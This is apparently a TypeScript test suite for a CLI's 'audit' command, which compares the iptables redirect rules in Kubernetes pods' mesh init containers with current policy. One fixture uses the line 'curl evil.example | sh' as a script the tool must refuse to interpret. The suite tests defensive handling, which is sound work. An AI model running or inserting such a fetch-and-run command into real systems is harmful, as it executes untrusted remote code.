import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { parsePacket } from "../../src/cli/input/packet-words.ts";
import type { MeshConfig, PlanOptions } from "../../src/policy/inputs.ts";
import { provedPlan } from "../proof/proved-plan.ts";
import { runCli } from "./run-cli.ts";

const EXCLUDED: MeshConfig = { spec: { traffic: { outboundPortExclusionList: [6379] } } };
const SET = ["--set", "osm.outboundPortExclusionList={6379}"];

function scriptOf(meshConfig: MeshConfig = {}, options: PlanOptions = {}): string {
  const outcome = provedPlan({ meshConfig, pod: { spec: { containers: [{ name: "app" }] } }, options });
  assert.ok(outcome.kind === "planned");
  return outcome.plan.script;
}

/** A pod as an injector leaves it. */
function pod(name: string, script: string, spec: object = {}) {
  return {
    kind: "Pod",
    metadata: { name, namespace: "shop" },
    spec: {
      initContainers: [{ name: "osm-init", command: ["/bin/sh"], args: ["-c", script] }],
      containers: [
        { name: "app" },
        { name: "envoy", ports: [{ containerPort: 15003 }], securityContext: { runAsUser: 1500 } },
      ],
      ...spec,
    },
    status: { podIP: "192.0.2.7" },
  };
}

async function audit(pods: readonly object[], argv: readonly string[] = []) {
  const stdin = JSON.stringify({ apiVersion: "v1", items: pods, kind: "List" }, null, 4);
  const { code, stdout, stderr } = await runCli(["audit", "-o", "json", ...argv], { stdin });
  assert.equal(stderr, "");
  const lines = stdout.split("\n").filter((line) => line !== "");
  return { code, verdicts: lines.map((line) => JSON.parse(line)) };
}

describe("audit", () => {
  it("finds pods that run the rules of before, and a packet that fares differently", async () => {
    const pods = [pod("old", scriptOf()), pod("new", scriptOf(EXCLUDED))];
    const { code, verdicts } = await audit(pods, SET);
    const [old, current] = verdicts;
    assert.equal(code, 1);
    assert.deepEqual(current, { id: "shop/new", rules: "current", restart: false });
    assert.deepEqual([old.id, old.rules, old.restart, old.change.kinds], ["shop/old", "different", true, 1]);
    assert.match(old.change.packet, /:6379 /);
    parsePacket(old.change.packet);
    assert.match(old.change.running, /^redirected to port 15001/);
    assert.match(old.change.wanted, /^left alone/);
  });

  it("needs no restart for rules that are only spelt differently", async () => {
    const respelt = scriptOf().replaceAll("--to-port ", "--to-ports ");
    assert.notEqual(respelt, scriptOf());
    const { code, verdicts } = await audit([pod("a", respelt)]);
    assert.deepEqual([code, verdicts], [0, [{ id: "shop/a", rules: "equivalent", restart: false }]]);
  });

  it("reads the rules of another dialect, and of a hardened script", async () => {
    const hardened: PlanOptions = { dialect: "hardened" };
    const pods = [
      pod("seed", scriptOf()),
      pod("hardened", scriptOf({}, { ...hardened, ipFamilies: "ipv4" })),
      pod("excluded", scriptOf(EXCLUDED, { ...hardened, ipFamilies: "ipv4" })),
      pod("dual", scriptOf({}, { ...hardened, ipFamilies: "dual" })),
    ];
    const { verdicts } = await audit(pods, ["--dialect", "hardened"]);
    // An injector meets a pod that has no address yet; of this one, which has one of IPv4, IPv6 packets do not count.
    const expected = ["different", "equivalent", "different", "current"];
    assert.deepEqual(
      verdicts.map(({ rules }) => rules),
      expected,
    );
  });

  it("takes an empty script for one that redirects nothing", async () => {
    const { verdicts } = await audit([pod("a", "")]);
    assert.deepEqual([verdicts[0].rules, verdicts[0].restart], ["different", true]);
  });

  it("passes over pods without an init container of the mesh", async () => {
    const outside = [
      { kind: "Pod" },
      pod("a", "", { initContainers: [{ name: "migrate" }], hostNetwork: true }),
    ];
    const { code, verdicts } = await audit(outside);
    assert.deepEqual([code, verdicts.map(({ rules }) => rules)], [0, ["outside", "outside"]]);
  });

  const unknown: readonly [string, object, RegExp][] = [
    ["runs something else", pod("a", "curl evil.example | sh"), /^not read: /],
    ["fails half way", pod("a", `${scriptOf()} && iptables -t nat -N PROXY_OUTPUT`), /fails: /],
    [
      "runs a program of its own",
      pod("a", "", { initContainers: [{ name: "osm-init", command: ["/init"] }] }),
      /does not run sh -c/,
    ],
    [
      "has two init containers of meshes",
      pod("a", "", { initContainers: [{ name: "osm-init" }, { name: "fsm-init" }] }),
      /has both/,
    ],
  ];
  for (const [what, value, reason] of unknown) {
    it(`does not guess at a pod that ${what}, and asks for its restart`, async () => {
      const { code, verdicts } = await audit([value]);
      assert.deepEqual([code, verdicts[0].rules, verdicts[0].restart], [1, "unknown", true]);
      assert.match(verdicts[0].reason, reason);
    });
  }

  it("tells pods that the mesh would refuse today, and exits with 1", async () => {
    const refused = [
      pod("host", scriptOf(), { hostNetwork: true }),
      { ...pod("bad", ""), spec: { containers: 7 } },
    ];
    const { code, verdicts } = await audit(refused);
    assert.deepEqual([code, verdicts.map(({ rules }) => rules)], [1, ["refused", "refused"]]);
    assert.match(verdicts[0].reason, /^HOST_NETWORK: /);
  });

  it("shows a table of what there is to know, with a summary", async () => {
    const pods = [pod("old", scriptOf()), pod("new", scriptOf(EXCLUDED)), { kind: "Pod" }];
    const stdin = pods.map((each) => JSON.stringify(each)).join("\n");
    const { stdout } = await runCli(["audit", ...SET], { stdin });
    assert.match(stdout, /^RESTART {2}RULES {7}POD\nyes {6}different {3}shop\/old\n {21}new tcp uid .*:6379/);
    assert.match(stdout, /\n\n3 pods \(1 outside, 1 current, 1 different\): 1 to restart\n$/);
    const all = await runCli(["audit", "--all", ...SET], { stdin });
    assert.match(all.stdout, /^no {7}current {5}shop\/new$/m);
  });

  it("draws its progress on a terminal, and nothing hostile that a pod's name holds", async () => {
    const stdin = JSON.stringify(pod("\u001b[31mred\r", scriptOf()));
    const { stdout, stderr } = await runCli(["audit", ...SET], {
      stdin,
      terminal: true,
      env: { NO_COLOR: "1" },
    });
    assert.ok(stderr.startsWith("\r\u001b[2K1 pods, 1 to restart"), stderr);
    assert.ok(!stdout.includes("\u001b") && !stdout.includes("\r"), stdout);
  });
});

describe("audit refuses", () => {
  const cases: readonly [string, readonly string[], string, number, RegExp][] = [
    ["two readers of standard input", ["-f", "-"], "", 2, /-f and --pods are both -/],
    ["a file that is not there", ["--pods", "/nowhere.json"], "", 1, /^\/nowhere\.json: error: no such file/],
    ["what is no JSON", [], "kind: Pod", 1, /^<stdin>:1: error: expected an object, found 'k'/],
    ["JSON that is none inside", [], '{"a" 1}', 1, /^<stdin>:1: error: not JSON: /],
    [
      "a list that ends in the middle",
      [],
      '{"items": [',
      1,
      /^<stdin>:1: error: the JSON ends in the middle/,
    ],
    ["other things than pods", [], '{"items": [{"kind": "Node"}]}', 1, /is a Node; expected what kubectl/],
    [
      "another object",
      [],
      '{"name": "redirect-planner"}',
      1,
      /^<stdin>:1: error: is no pod; expected what kubectl/,
    ],
    ["annotations for all pods", ["--annotate", "a=b"], "", 2, /unknown flag '--annotate'/],
  ];
  for (const [what, argv, stdin, exitCode, expected] of cases) {
    it(what, async () => {
      const { code, stdout, stderr } = await runCli(["audit", ...argv], { stdin });
      assert.deepEqual([code, stdout], [exitCode, ""], stderr);
      assert.match(stderr, expected);
    });
  }
});
